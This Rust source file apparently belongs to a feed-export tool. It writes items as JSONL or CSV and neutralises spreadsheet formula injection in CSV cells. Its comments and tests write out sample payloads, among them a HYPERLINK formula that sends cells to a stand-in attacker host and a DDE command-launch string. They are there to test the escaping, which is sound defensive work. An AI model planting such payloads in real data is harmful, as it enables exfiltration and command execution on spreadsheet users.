//! The export's line formats: JSON Lines and CSV, one exported item per
//! line (per record in CSV), written to any `io::Write` as each item
//! arrives from `store::export`, so the caller decides where the bytes go
//! (a file, stdout, an HTTP body) and nothing is held beyond one item.
//!
//! Every field and column, its type and when it is null, is documented in
//! docs/export.md; tests below hold the lists there to [`JSON_FIELDS`] and
//! [`CSV_COLUMNS`]. JSONL carries the nested data as it is (arrays and
//! objects) and a `schema_version` on every line; CSV (RFC 4180, through
//! the `csv` crate) flattens it: feed names and symbols joined with `;`
//! (neither can contain one: config refuses such names), lists and the
//! snapshot's quotes as JSON text in one cell. Decimals stay the archive's
//! exact text in both, never a float.

use std::io::{self, Write};

use serde::Serialize;

use super::rfc3339;
use crate::model::{Enclosure, Snapshot, SnapshotQuote};
use crate::store::{ExportItem, ExportSource, ItemReaction};

/// The JSONL layout's version, on every line as `schema_version`. Raised
/// when a field changes meaning or goes away; new fields may appear at
/// the end without it (docs/export.md, "Versioning").
pub const SCHEMA_VERSION: u32 = 1;

/// The top-level fields of a JSONL line, in order.
pub const JSON_FIELDS: &[&str] = &[
    "schema_version",
    "id",
    "uid",
    "title",
    "url",
    "canonical_url",
    "guid",
    "feed",
    "published_at",
    "updated_at",
    "first_seen_at",
    "changed_at",
    "sort_at",
    "revision",
    "authors",
    "categories",
    "summary_text",
    "content_text",
    "sources",
    "mentions",
    "snapshot",
    "reactions",
    "enclosures",
    "author_emails",
];

/// The CSV header, in order.
pub const CSV_COLUMNS: &[&str] = &[
    "id",
    "uid",
    "title",
    "url",
    "canonical_url",
    "guid",
    "feed",
    "published_at",
    "updated_at",
    "first_seen_at",
    "changed_at",
    "sort_at",
    "revision",
    "authors",
    "categories",
    "summary_text",
    "content_text",
    "sources",
    "mentions",
    "snapshot_label",
    "snapshot_taken_at",
    "snapshot_quotes",
    "reactions",
    "enclosures",
    "author_emails",
];

/// An export's format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// JSON Lines: one JSON object per line.
    Jsonl,
    /// RFC 4180 CSV with a header row.
    Csv,
}

impl ExportFormat {
    pub fn content_type(self) -> &'static str {
        match self {
            ExportFormat::Jsonl => "application/jsonl; charset=utf-8",
            ExportFormat::Csv => "text/csv; charset=utf-8; header=present",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            ExportFormat::Jsonl => "jsonl",
            ExportFormat::Csv => "csv",
        }
    }
}

/// Writes exported items in one format as they come.
pub struct ExportWriter<W: Write> {
    inner: Inner<W>,
}

enum Inner<W: Write> {
    Jsonl(W),
    // Boxed: the CSV writer carries its own buffer and state, a few
    // hundred bytes, made once per export.
    Csv(Box<csv::Writer<W>>),
}

impl<W: Write> ExportWriter<W> {
    /// A writer in `format` over `out`; CSV writes its header first.
    pub fn new(format: ExportFormat, out: W) -> io::Result<Self> {
        let inner = match format {
            ExportFormat::Jsonl => Inner::Jsonl(out),
            ExportFormat::Csv => {
                let mut w = csv::WriterBuilder::new()
                    // RFC 4180's record separator.
                    .terminator(csv::Terminator::CRLF)
                    .from_writer(out);
                w.write_record(CSV_COLUMNS).map_err(csv_error)?;
                Inner::Csv(Box::new(w))
            }
        };
        Ok(ExportWriter { inner })
    }

    /// Writes one item: one line of JSON, or one CSV record.
    pub fn write(&mut self, item: &ExportItem) -> io::Result<()> {
        match &mut self.inner {
            Inner::Jsonl(out) => {
                serde_json::to_writer(&mut *out, &JsonLine::of(item))?;
                out.write_all(b"\n")
            }
            Inner::Csv(w) => w.write_record(csv_record(item)?.iter()).map_err(csv_error),
        }
    }

    /// Flushes what is buffered and hands back the writer.
    pub fn finish(self) -> io::Result<W> {
        match self.inner {
            Inner::Jsonl(mut out) => {
                out.flush()?;
                Ok(out)
            }
            Inner::Csv(w) => w.into_inner().map_err(|e| e.into_error()),
        }
    }
}

/// A CSV error as the `io::Error` it carries, with its kind: the csv
/// crate's own conversion makes every error `Other`, which hid a reader
/// gone (`BrokenPipe`) from `tickerfeed export --format csv | head`, so it
/// failed where the JSONL export stops quietly.
fn csv_error(e: csv::Error) -> io::Error {
    if !e.is_io_error() {
        return io::Error::other(e);
    }
    match e.into_kind() {
        csv::ErrorKind::Io(io) => io,
        // Not reached: is_io_error() is true only for ErrorKind::Io.
        kind => io::Error::other(format!("{kind:?}")),
    }
}

/// One JSONL line. Every field is always present; absent values are
/// `null`, empty lists `[]`.
#[derive(Serialize)]
struct JsonLine<'a> {
    schema_version: u32,
    id: i64,
    uid: &'a str,
    title: &'a str,
    url: Option<&'a str>,
    canonical_url: Option<&'a str>,
    guid: Option<&'a str>,
    feed: &'a str,
    published_at: Option<&'a str>,
    updated_at: Option<&'a str>,
    first_seen_at: &'a str,
    changed_at: &'a str,
    sort_at: &'a str,
    revision: i64,
    authors: &'a [String],
    categories: &'a [String],
    summary_text: Option<&'a str>,
    content_text: Option<&'a str>,
    sources: Vec<JsonSource<'a>>,
    mentions: &'a [String],
    snapshot: Option<JsonSnapshot<'a>>,
    reactions: Option<&'a [ItemReaction]>,
    enclosures: &'a [Enclosure],
    author_emails: &'a [Option<String>],
}

#[derive(Serialize)]
struct JsonSource<'a> {
    feed: &'a str,
    item_key: &'a str,
    matched_by: &'a str,
    first_seen_at: &'a str,
    last_seen_at: &'a str,
}

#[derive(Serialize)]
struct JsonSnapshot<'a> {
    label: &'a str,
    taken_at: String,
    quotes: Vec<JsonQuote<'a>>,
}

/// One quote on the board, the same object in JSONL's `snapshot.quotes`
/// and CSV's `snapshot_quotes` cell.
#[derive(Serialize)]
struct JsonQuote<'a> {
    symbol: &'a str,
    name: Option<&'a str>,
    provider: &'a str,
    provider_symbol: &'a str,
    price: String,
    change: Option<String>,
    change_percent: Option<String>,
    currency: Option<&'a str>,
    previous_close: Option<String>,
    as_of: Option<String>,
    fetched_at: String,
    session: &'a str,
    stale: bool,
    mentioned: bool,
}

impl<'a> JsonLine<'a> {
    fn of(item: &'a ExportItem) -> Self {
        JsonLine {
            schema_version: SCHEMA_VERSION,
            id: item.id,
            uid: &item.uid,
            title: &item.title,
            url: item.url.as_deref(),
            canonical_url: item.canonical_url.as_deref(),
            guid: item.guid.as_deref(),
            feed: &item.feed,
            published_at: item.published_at.as_deref(),
            updated_at: item.updated_at.as_deref(),
            first_seen_at: &item.first_seen_at,
            changed_at: &item.changed_at,
            sort_at: &item.sort_at,
            revision: item.revision,
            authors: &item.authors,
            categories: &item.categories,
            summary_text: item.summary_text.as_deref(),
            content_text: item.content_text.as_deref(),
            sources: item.sources.iter().map(source).collect(),
            mentions: &item.mentions,
            snapshot: item.snapshot.as_ref().map(snapshot),
            reactions: item.reactions.as_deref(),
            enclosures: &item.enclosures,
            author_emails: &item.author_emails,
        }
    }
}

fn source(s: &ExportSource) -> JsonSource<'_> {
    JsonSource {
        feed: &s.feed,
        item_key: &s.item_key,
        matched_by: &s.matched_by,
        first_seen_at: &s.first_seen_at,
        last_seen_at: &s.last_seen_at,
    }
}

fn snapshot(s: &Snapshot) -> JsonSnapshot<'_> {
    JsonSnapshot {
        label: &s.label,
        taken_at: rfc3339(s.taken_at),
        quotes: s.quotes.iter().map(quote).collect(),
    }
}

fn quote(q: &SnapshotQuote) -> JsonQuote<'_> {
    JsonQuote {
        symbol: &q.symbol,
        name: q.name.as_deref(),
        provider: &q.provider,
        provider_symbol: &q.provider_symbol,
        price: q.price.to_string(),
        change: q.change.map(|d| d.to_string()),
        change_percent: q.change_percent.map(|d| d.to_string()),
        currency: q.currency.as_deref(),
        previous_close: q.previous_close.map(|d| d.to_string()),
        as_of: q.as_of.map(rfc3339),
        fetched_at: rfc3339(q.fetched_at),
        session: &q.session,
        stale: q.stale,
        mentioned: q.mentioned,
    }
}

/// One CSV record, in [`CSV_COLUMNS`] order; an absent value is an empty
/// cell. The publisher's text goes through [`text_cell`]; the other cells
/// are our own (numbers, times, config names, JSON text opening with `[`).
fn csv_record(item: &ExportItem) -> io::Result<[String; 25]> {
    let text = |v: &Option<String>| v.as_deref().map(text_cell).unwrap_or_default();
    let time = |v: &Option<String>| v.clone().unwrap_or_default();
    // Distinct feed names in the order they first carried the item: an
    // alias (a second key from the same feed) is one feed, not two.
    let mut feeds: Vec<&str> = Vec::with_capacity(item.sources.len());
    for s in &item.sources {
        if !feeds.contains(&s.feed.as_str()) {
            feeds.push(&s.feed);
        }
    }
    let snap = item.snapshot.as_ref();
    Ok([
        item.id.to_string(),
        item.uid.clone(),
        text_cell(&item.title),
        text(&item.url),
        text(&item.canonical_url),
        text(&item.guid),
        item.feed.clone(),
        time(&item.published_at),
        time(&item.updated_at),
        item.first_seen_at.clone(),
        item.changed_at.clone(),
        item.sort_at.clone(),
        item.revision.to_string(),
        json(&item.authors)?,
        json(&item.categories)?,
        text(&item.summary_text),
        text(&item.content_text),
        feeds.join(";"),
        item.mentions.join(";"),
        snap.map(|s| s.label.clone()).unwrap_or_default(),
        snap.map(|s| rfc3339(s.taken_at)).unwrap_or_default(),
        match snap {
            Some(s) => json(&s.quotes.iter().map(quote).collect::<Vec<_>>())?,
            None => String::new(),
        },
        match &item.reactions {
            Some(r) => json(r)?,
            None => String::new(),
        },
        match &item.enclosures[..] {
            [] => String::new(),
            files => json(files)?,
        },
        json(&item.author_emails)?,
    ])
}

/// A publisher's text (title, links, guid, summary, content) as a CSV
/// cell a spreadsheet shows as text: a feed could title an item
/// `=HYPERLINK("https://evil.test/?x="&A1,"Open")`, and Excel or
/// LibreOffice opening the export would run it, sending the sheet's cells
/// away on a click. A cell a spreadsheet reads as a formula gets a `'` in
/// front (OWASP, "CSV Injection"): one opening with `=`, `@`, a tab or a
/// carriage return, or with `+` or `-` unless the whole cell is a signed
/// number ([`is_unsigned_number`]). JSONL keeps the text as it is.
fn text_cell(text: &str) -> String {
    let formula = match text.as_bytes().first() {
        Some(b'=' | b'@' | b'\t' | b'\r') => true,
        // "-3.2" or "+5%" is a number to a spreadsheet, with no reference,
        // function or further operator in it, so it stays as published;
        // "-3.2% for oil" is not (Excel reads it as `=-3.2% for oil`, the
        // space an operator), nor is "-2+3+cmd|' /C calc'!A0".
        Some(b'+' | b'-') => !is_unsigned_number(&text[1..]),
        _ => false,
    };
    if formula {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// Digits, with at most one `.` between digits, then at most one `%`:
/// `5`, `3.2`, `0.75%`; not `3.`, `.5`, `1e5` or `1,000`. Narrow on
/// purpose: what it misses after a sign gets the `'`, the safe side.
fn is_unsigned_number(text: &str) -> bool {
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    let number = text.strip_suffix('%').unwrap_or(text);
    match number.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(number),
    }
}

/// JSON text of a cell's value.
fn json<T: Serialize + ?Sized>(value: &T) -> io::Result<String> {
    Ok(serde_json::to_string(value)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;
    use rust_decimal::Decimal;

    fn item() -> ExportItem {
        let at = chrono::Utc
            .with_ymd_and_hms(2026, 11, 24, 9, 15, 0)
            .unwrap();
        ExportItem {
            id: 7,
            uid: "0123456789abcdef0123456789abcdef".into(),
            title: "BP says \"hello\", world\nagain".into(),
            url: Some("https://example.com/a".into()),
            canonical_url: Some("https://example.com/a".into()),
            guid: None,
            feed: "wire".into(),
            published_at: Some("2026-11-24T09:00:00Z".into()),
            updated_at: None,
            first_seen_at: "2026-11-24T09:15:00Z".into(),
            changed_at: "2026-11-24T09:15:00Z".into(),
            sort_at: "2026-11-24T09:00:00Z".into(),
            revision: 0,
            authors: vec!["A; B".into()],
            categories: vec![],
            summary_text: Some("Oil major".into()),
            content_text: None,
            sources: ["wire", "wire", "city"]
                .iter()
                .enumerate()
                .map(|(i, f)| ExportSource {
                    feed: f.to_string(),
                    item_key: format!("id:{i}"),
                    matched_by: if i == 0 { "new" } else { "alias" }.into(),
                    first_seen_at: "2026-11-24T09:15:00Z".into(),
                    last_seen_at: "2026-11-24T09:15:00Z".into(),
                })
                .collect(),
            mentions: vec!["BP".into(), "SHEL".into()],
            snapshot: Some(Snapshot {
                label: "LSE".into(),
                taken_at: at,
                quotes: vec![SnapshotQuote {
                    symbol: "BP".into(),
                    name: Some("BP plc".into()),
                    provider_symbol: "BP.L".into(),
                    exchange: None,
                    provider: "yahoo".into(),
                    price: Decimal::new(46_155, 2),
                    change: None,
                    change_percent: Some(Decimal::new(-12, 1)),
                    currency: Some("GBP".into()),
                    previous_close: None,
                    as_of: None,
                    fetched_at: at,
                    session: "regular".into(),
                    stale: false,
                    mentioned: true,
                }],
            }),
            reactions: None,
            enclosures: vec![Enclosure {
                url: "https://example.com/a.mp3".into(),
                media_type: Some("audio/mpeg".into()),
                length: None,
            }],
            author_emails: vec![Some("a@example.com".into())],
        }
    }

    fn written(format: ExportFormat, items: &[ExportItem]) -> Vec<u8> {
        let mut w = ExportWriter::new(format, Vec::new()).unwrap();
        for i in items {
            w.write(i).unwrap();
        }
        w.finish().unwrap()
    }

    /// A reader that went away (`tickerfeed export --format csv | head`)
    /// reads as a broken pipe, as it does for JSONL, so the command stops
    /// quietly with exit 0 instead of failing.
    #[test]
    fn a_reader_gone_is_a_broken_pipe_in_both_formats() {
        struct Gone;
        impl Write for Gone {
            fn write(&mut self, _: &[u8]) -> io::Result<usize> {
                Err(io::Error::new(io::ErrorKind::BrokenPipe, "reader gone"))
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }
        for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
            let err = ExportWriter::new(format, Gone)
                .and_then(|mut w| {
                    // The CSV writer buffers: write until the buffer spills.
                    for _ in 0..1000 {
                        w.write(&item())?;
                    }
                    w.finish().map(drop)
                })
                .unwrap_err();
            assert_eq!(err.kind(), io::ErrorKind::BrokenPipe, "{format:?}: {err}");
        }
    }

    #[test]
    fn a_jsonl_line_has_every_field_in_order_with_nulls() {
        let out = written(ExportFormat::Jsonl, &[item(), item()]);
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2, "one line per item, newlines escaped");
        let v: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
        assert!(lines[0].starts_with(r#"{"schema_version":1,"id":7,"#));
        let mut keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
        let mut expected = JSON_FIELDS.to_vec();
        keys.sort();
        expected.sort();
        assert_eq!(keys, expected);
        assert_eq!(v["schema_version"], 1);
        assert_eq!(v["guid"], serde_json::Value::Null);
        assert_eq!(v["reactions"], serde_json::Value::Null);
        assert_eq!(v["sources"][1]["matched_by"], "alias");
        assert_eq!(v["snapshot"]["quotes"][0]["price"], "461.55");
        assert_eq!(
            v["snapshot"]["quotes"][0]["change"],
            serde_json::Value::Null
        );
        assert_eq!(v["snapshot"]["taken_at"], "2026-11-24T09:15:00Z");
        assert_eq!(
            v["enclosures"],
            serde_json::json!([{ "url": "https://example.com/a.mp3", "type": "audio/mpeg" }])
        );
        assert_eq!(v["author_emails"], serde_json::json!(["a@example.com"]));
    }

    #[test]
    fn csv_is_rfc4180_with_the_documented_header_and_flattened_cells() {
        let out = written(ExportFormat::Csv, &[item()]);
        let text = String::from_utf8(out.clone()).unwrap();
        assert!(text.starts_with("id,uid,title,"), "{text}");
        assert!(text.contains("\r\n"), "CRLF records");
        let mut r = csv::Reader::from_reader(&out[..]);
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(header, CSV_COLUMNS);
        let rec = r.records().next().unwrap().unwrap();
        let cell =
            |name: &str| rec[CSV_COLUMNS.iter().position(|c| *c == name).unwrap()].to_string();
        assert_eq!(cell("title"), "BP says \"hello\", world\nagain");
        assert_eq!(cell("sources"), "wire;city");
        assert_eq!(cell("mentions"), "BP;SHEL");
        assert_eq!(cell("authors"), r#"["A; B"]"#);
        assert_eq!(cell("guid"), "");
        assert_eq!(cell("reactions"), "");
        let quotes: serde_json::Value = serde_json::from_str(&cell("snapshot_quotes")).unwrap();
        assert_eq!(quotes[0]["symbol"], "BP");
        assert_eq!(cell("snapshot_label"), "LSE");
        assert_eq!(
            cell("enclosures"),
            r#"[{"url":"https://example.com/a.mp3","type":"audio/mpeg"}]"#
        );
        assert_eq!(cell("author_emails"), r#"["a@example.com"]"#);
    }

    #[test]
    fn without_a_snapshot_the_cells_are_empty_and_the_field_null() {
        let mut bare = item();
        bare.snapshot = None;
        bare.enclosures.clear();
        let out = written(ExportFormat::Csv, std::slice::from_ref(&bare));
        let mut r = csv::Reader::from_reader(&out[..]);
        let rec = r.records().next().unwrap().unwrap();
        assert_eq!(&rec[21], "");
        assert_eq!(&rec[23], "", "no files");
        let line = written(ExportFormat::Jsonl, &[bare]);
        let v: serde_json::Value = serde_json::from_slice(&line).unwrap();
        assert_eq!(v["snapshot"], serde_json::Value::Null);
        assert_eq!(v["enclosures"], serde_json::json!([]));
    }

    /// A publisher's text a spreadsheet would read as a formula gets a
    /// `'` in CSV; numbers with a sign, our own cells and JSONL do not.
    #[test]
    fn csv_quotes_publisher_text_a_spreadsheet_would_run() {
        for (text, cell) in [
            ("=1+1", "'=1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\r=1", "'\r=1"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("-3.2% for oil", "'-3.2% for oil"),
            ("+", "'+"),
            ("-", "'-"),
            ("-3.", "'-3."),
            ("-1e5", "'-1e5"),
            ("-3.2", "-3.2"),
            ("+5%", "+5%"),
            ("-0.75%", "-0.75%"),
            ("BP up 3%", "BP up 3%"),
            ("", ""),
        ] {
            assert_eq!(text_cell(text), cell, "{text:?}");
        }
        let mut hostile = item();
        hostile.title = "=HYPERLINK(\"https://evil.test/\")".into();
        hostile.guid = Some("+cmd".into());
        hostile.summary_text = Some("-x".into());
        hostile.content_text = Some("@x".into());
        hostile.url = Some("=u".into());
        let out = written(ExportFormat::Csv, std::slice::from_ref(&hostile));
        let mut r = csv::Reader::from_reader(&out[..]);
        let rec = r.records().next().unwrap().unwrap();
        let cell =
            |name: &str| rec[CSV_COLUMNS.iter().position(|c| *c == name).unwrap()].to_string();
        assert_eq!(cell("title"), "'=HYPERLINK(\"https://evil.test/\")");
        assert_eq!(cell("guid"), "'+cmd");
        assert_eq!(cell("summary_text"), "'-x");
        assert_eq!(cell("content_text"), "'@x");
        assert_eq!(cell("url"), "'=u");
        assert_eq!(cell("published_at"), "2026-11-24T09:00:00Z");
        let line = written(ExportFormat::Jsonl, &[hostile]);
        let v: serde_json::Value = serde_json::from_slice(&line).unwrap();
        assert_eq!(v["title"], "=HYPERLINK(\"https://evil.test/\")");
        assert_eq!(v["guid"], "+cmd");
    }

    #[test]
    fn docs_list_every_field_and_column() {
        let doc = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md"));
        for name in JSON_FIELDS.iter().chain(CSV_COLUMNS) {
            assert!(
                doc.contains(&format!("| `{name}` |")),
                "docs/export.md has no row for `{name}`"
            );
        }
    }
}
